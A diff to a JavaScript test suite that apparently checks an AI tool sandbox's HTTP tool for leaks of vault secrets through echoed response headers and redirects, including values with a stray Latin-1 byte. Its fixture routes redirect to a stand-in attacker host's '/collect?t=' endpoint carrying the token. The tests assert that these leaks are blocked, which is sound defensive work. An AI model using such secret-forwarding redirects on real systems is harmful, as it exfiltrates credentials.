@@ -49,6 +49,11 @@ beforeAll(async () => {
       res.writeHead(200, { 'x-echo': rawUtf8(token) }).end('ok');
     } else if (url.pathname === '/api/location') {
       res.writeHead(302, { location: rawUtf8(`${evil.origin}/collect?t=${token}`) }).end();
+    } else if (url.pathname === '/api/header-stray') {
+      // One byte that is not UTF-8 (Latin-1 é) before the echo: the value as a whole is not UTF-8 (review 130).
+      res.writeHead(200, { 'x-echo': `\xe9${rawUtf8(token)}` }).end('ok');
+    } else if (url.pathname === '/api/location-stray') {
+      res.writeHead(302, { location: `${evil.origin}/caf\xe9/collect?t=${rawUtf8(token)}` }).end();
     } else if (url.pathname === '/api/te-gzip') {
       // Node frames the body in chunks itself; `gzip` before it is left to the client, which undici does not undo.
       const echo = JSON.stringify({ authorization: req.headers.authorization, token });
@@ -133,6 +138,24 @@ describe('a vault secret echoed by a bound server in UTF-8 header bytes', () => 
     const { got } = await attack('/api/location');
     expect(got).toEqual({ code: 'E_TOOL_FAILED', message: 'net.http: redirect location carries an injected secret' });
     expect(evil.requests.filter((r) => r.url.startsWith('/collect'))).toEqual([]);
+    for (const spelling of QUERY_SPELLINGS) expect(everywhere(got)).not.toContain(spelling);
+  });
+});
+
+describe('a vault secret echoed in UTF-8 beside a byte that is not (review 130)', () => {
+  it('a header echo comes back scrubbed in its Latin-1 reading, and cannot be forwarded', async () => {
+    const { got, label, sent } = await attack('/api/header-stray');
+    expect(got).toMatchObject({ status: 200, headers: { 'x-echo': 'é[vault:qry]' } });
+    expect(label).toContain('secret');
+    expect(sent).toBe('E_TAINT');
+    expect(evil.requests).toEqual([]);
+    for (const spelling of QUERY_SPELLINGS) expect(everywhere(got)).not.toContain(spelling);
+  });
+
+  it('a Location echo is refused as carrying an injected secret', async () => {
+    const { got } = await attack('/api/location-stray');
+    expect(got).toEqual({ code: 'E_TOOL_FAILED', message: 'net.http: redirect location carries an injected secret' });
+    expect(evil.requests.filter((r) => r.url.includes('collect'))).toEqual([]);
     for (const spelling of QUERY_SPELLINGS) expect(everywhere(got)).not.toContain(spelling);
   });
 });
